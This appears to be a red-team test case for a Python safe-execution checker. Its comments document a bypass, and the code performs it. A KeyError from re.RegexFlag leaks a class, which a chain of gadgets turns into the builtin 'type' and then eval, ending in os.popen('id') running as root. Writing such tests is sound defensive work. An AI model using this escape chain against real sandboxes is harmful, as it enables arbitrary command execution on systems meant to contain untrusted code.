# expect: reject unbound
# line: 23
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: thirteenth red team (fourth round), family K: an enum class's __getitem__ raises KeyError(index): re.RegexFlag[C] hands the library class back in e.args

# Mechanism: rule unbound allows a library class as the index of a subscript of any module attribute (library_generic: 'no program code receives it'). An enum class's __getitem__ looks the index up in _member_map_ and raises KeyError(index): the exception hands the class back, e.args[0] is collections.Counter as a clean value
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, the 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD e936e29
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import re
import typing

class P:
    pass

try:
    re.RegexFlag[collections.Counter]
except KeyError as e:
    K = e.args[0]
T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
